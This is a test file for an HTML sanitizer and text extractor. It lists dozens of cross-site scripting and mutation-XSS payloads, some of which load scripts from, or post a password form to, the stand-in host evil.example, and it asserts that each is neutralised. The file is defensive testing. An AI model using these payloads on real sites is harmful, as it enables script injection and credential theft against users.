import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { plainText, sanitizeHtml, visibleText } from '../../src/domain/text/html.js';
import { cpuTimeOf } from '../support/cpu-time.js';

const rel = 'rel="noopener noreferrer nofollow"';

describe('what is kept', () => {
  test.each([
    ['<p>Hello <b>you</b>, <em>and</em> <u>them</u></p>', undefined],
    ['<h1>A</h1><h6>B</h6><blockquote>C</blockquote><pre><code>d\n e</code></pre>', undefined],
    ['<ul><li>a</li><li>b</li></ul><ol start="3"><li>c</li></ol><dl><dt>d</dt><dd>e</dd></dl>', undefined],
    [
      '<table><thead><tr><th colspan="2">A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
      undefined,
    ],
    [`<a href="https://example.com/?a=1&amp;b=2" title="t" ${rel}>x</a>`, undefined],
    [`<a href="mailto:ada@example.com" ${rel}>x</a>`, undefined],
    [
      `<a href="http://example.com" rel="opener" target="_blank">x</a>`,
      `<a href="http://example.com" ${rel}>x</a>`,
    ],
    ['<img src="https://example.com/a.png" alt="A" width="1" height="2" />', undefined],
    ['1 < 2 & 3 > 2 "q"', '1 &lt; 2 &amp; 3 &gt; 2 "q"'],
    ['line<br>line<hr>', 'line<br />line<hr />'],
    ['<b><i>open', '<b><i>open</i></b>'],
    ['Żółć 字 🚚', undefined],
    ['', undefined],
  ])('%s', (sent, expected = sent) => {
    expect(sanitizeHtml(sent)).toBe(expected);
  });
});

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="//evil.example/a.png">',
  '<img srcset="https://evil.example/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="/logout">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://e.example" onclick="alert(1)" style="position:fixed" id="x" class="y">x</a>',
  '<p style="background:url(javascript:alert(1))" onclick=alert(1) id=x name=y class=z>x</p>',
  '<p/onmouseover=alert(1)>x',
  '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><set attributeName=href to=javascript:alert(1)></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import url(https://evil.example)</style><link rel=stylesheet href=x><base href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)> ?>',
  '<p title="`onerror=alert(1)">x</p><img alt="``onerror=alert(1)" src=x>',
  '<a href="https://e.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<constructor><__proto__ onclick=alert(1)>x',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  // What browsers read in another way once it is written down and read again (mutation XSS).
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<table><td><svg><desc><table><td></desc><img src=x onerror=alert(1)></table>',
  '<a href="https://e.example" title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x',
  '<img src="https://e.example/a.png" alt="`--><img src=x onerror=alert(1)>">',
  '<a href="https://e.example/\u2028" onclick=alert(1) x="">x</a>',
  // What later versions of sanitize-html mend (docs/inside/dependencies.md), for tags that are none of ours.
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<xmp>&lt;/xmp&gt;</xmp/><img src=x onerror=alert(1)>',
  '<div><noscript></div><img src=x onerror=alert(1)></noscript>',
  '<p><noscript><b></p><a href="javascript:alert(1)">x</a></noscript>',
  '<meta http-equiv="Refresh" content="0; URL=\'javascript:alert(1)\'">',
  '<svg><a href="#"><animate attributeName="xlink:href" values="#safe;javascript:alert(1)" /></a></svg>',
  '<svg:animate attributeName="href" to="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x" src="https://e.example/a.png">',
  `${'<iframe>'.repeat(50)}<img src=x onerror=alert(1)>`,
  '<a\0href="javascript:alert(1)">x</a><img\x0bsrc=x\x0connerror=alert(1)>',
];

/** What may stand in stored HTML: these tags with quoted attributes of these names, and escaped text. */
const attribute = / (href|title|rel|src|alt|width|height|start|colspan|rowspan)="[^"<>]*"/.source;
const tag = /<\/?(p|br|hr|div|span|b|i|em|u|a|img|ul|ol|li|table|tbody|tr|td|th|sub|sup)/.source;
const harmless = new RegExp(`^(?:${tag}(?:${attribute})*(?: /)?>|[^<>])*$`);

describe('what is hostile', () => {
  test.each(hostile)('%s', (sent) => {
    const clean = sanitizeHtml(sent);
    expect(clean).toMatch(harmless);
    expect(clean).not.toMatch(/(href|src)="(?!https:\/\/e\.example)/i);
    expect(sanitizeHtml(clean)).toBe(clean);
  });
});

/** Pieces of markup that mean something else beside others. */
const pieces = fc.oneof(
  fc.constantFrom(...hostile),
  fc.constantFrom(
    '<',
    '>',
    '</',
    '/>',
    '"',
    "'",
    '`',
    '=',
    '&',
    ';',
    '&#',
    '&lt',
    '<!--',
    '-->',
    '--!>',
    '<![CDATA[',
    ']]>',
    '<?',
  ),
  fc.constantFrom(
    '<p',
    '<a href=',
    'https://e.example/',
    ' onerror=alert(1)',
    '<svg>',
    '</svg>',
    '<style>',
    '</style>',
    '<table>',
  ),
  fc.constantFrom(
    '<math>',
    '<textarea>',
    '</textarea>',
    '<template>',
    '<title>',
    '<script>',
    '</script',
    '\0',
    '\f',
    'x',
  ),
);

test('any composed HTML becomes harmless HTML, which stays unchanged', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
      const clean = sanitizeHtml(parts.join(''));
      expect(clean).toMatch(harmless);
      expect(clean).not.toMatch(/<[^<>]*(href|src)="(?!https:\/\/e\.example)/i);
      expect(sanitizeHtml(clean)).toBe(clean);
    }),
    { numRuns: Number(process.env.FUZZ_RUNS ?? 300) },
  );
});

test.each([
  ['deep blocks', '<div>'.repeat(13_000)],
  ['deep lists', '<ul><li>'.repeat(8_000)],
  ['unclosed formatting', '<p><b a=1>'.repeat(6_500)],
  ['escapes', '<&>"'.repeat(16_000)],
  ['comments', '<!--'.repeat(16_000)],
  ['attributes', '<a href="'.repeat(7_000)],
  ['closings', '</p>'.repeat(16_000)],
])('%s of 64 KiB are done with in no time, and leave nothing deep', async (_what, sent) => {
  let clean = '';
  const time = await cpuTimeOf(() => {
    clean = sanitizeHtml(sent);
    expect(plainText(clean).length).toBeLessThanOrEqual(sent.length);
  });
  expect(time).toBeLessThan(2_000);
  expect(sanitizeHtml(clean)).toBe(clean);
  expect(clean.match(/<(div|ul|li|b)>/g)?.length ?? 0).toBeLessThanOrEqual(64);
});

test.each([
  ['<p>Hello <b>World</b></p><p>Second &amp; third<br />line</p>', 'Hello World\n\nSecond & third\nline'],
  ['<ul><li>a</li><li><p>b <i>c</i></p></li><li></li></ul>after', '- a\n\n- b c\n\nafter'],
  ['<table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2</td></tr></table>', 'A\tB\n1\t2'],
  ['<pre>  a\n   b</pre>x', '  a\n   b\n\nx'],
  ['one\n two   three', 'one two three'],
  ['AT&amp;T &lt;b&gt;', 'AT&T <b>'],
  ['<img src="https://a.example/b.png" alt="logo" /> text', 'logo text'],
  ['<a href="https://a.example" rel="x">here</a>.', 'here.'],
  ['<p> </p>', ''],
  ['', ''],
])('the plain text of %s', (html, text) => {
  expect(plainText(html)).toBe(text);
});

test.each([
  ['<p hidden>Expires 2031-07-15</p><p>Seen</p>'],
  ['<div style="color: red; display:none"><b>Expires 2031-07-15</b></div>Seen'],
  ['<span style="DISPLAY : NONE !important">Expires 2031-07-15</span>Seen'],
  ['<span style="visibility:hidden">Expires</span><span style="font-size:0px">2031-07-15</span>Seen'],
])('hidden parts of %s are not visible', (html) => {
  expect(visibleText(html).trim()).toBe('Seen');
});

test('other styles hide nothing', () => {
  expect(visibleText('<p style="width: 100px; opacity:0.5">Seen</p>')).toBe('Seen');
});

test.each([
  ['.gone { display: none }', 'Seen'],
  ['/* p { } */ p.gone,\n.other{color:red;display:none}', 'Seen'],
  ['#old{visibility:hidden}', 'Seen'],
  ['@media screen { .gone { font-size: 0 } }', 'Seen'],
  ['@import "a.css"; .gone.late { display: none }', 'Seen'],
  // They are not hidden everywhere, not all of them, or shown again.
  ['@media print { .gone { display: none } }', 'Seen Gone'],
  ['@media (max-width: 600px) { .gone { display: none } }', 'Seen Gone'],
  ['.menu .gone { display: none }', 'Seen Gone'],
  ['.gone:hover { display: none }', 'Seen Gone'],
  ['.gone.early { display: none }', 'Seen Gone'],
  ['.gone { display: none } .gone { display: block }', 'Seen Gone'],
  ['.gone { width: 100px }', 'Seen Gone'],
  ['@layer a { .gone { display: none } }', 'Seen'],
  ['.gone { display: none', 'Seen'],
  ['}}{{;,.gone', 'Seen Gone'],
])('what the style sheet %j hides is not in the visible text', (css, text) => {
  const html = `<style>${css}</style><div>Seen</div><p class="gone  late" id="old">Gone</p>`;
  expect(visibleText(html).trim().replace(/\s+/g, ' ')).toBe(text);
});

test.each([
  '{',
  '}',
  '@layer{',
  '@layer{}',
  '/*',
  '.a{',
  '.a,',
  '.a{display:none}',
  '.a.b.c',
  '<style>',
  ';',
])('visible text of 200 KB of %j is made in time that grows with its length', (piece) => {
  const made = (count: number) => {
    const html = `<style>${piece.repeat(count)}</style>${'<p class="a b">x</p>'.repeat(count / 50)}`;
    const before = process.cpuUsage();
    visibleText(html);
    const { user } = process.cpuUsage(before);
    return user / 1_000;
  };
  made(1_000);
  // Were it quadratic, it would take minutes.
  expect(made(Math.floor(200_000 / piece.length))).toBeLessThan(5_000);
});
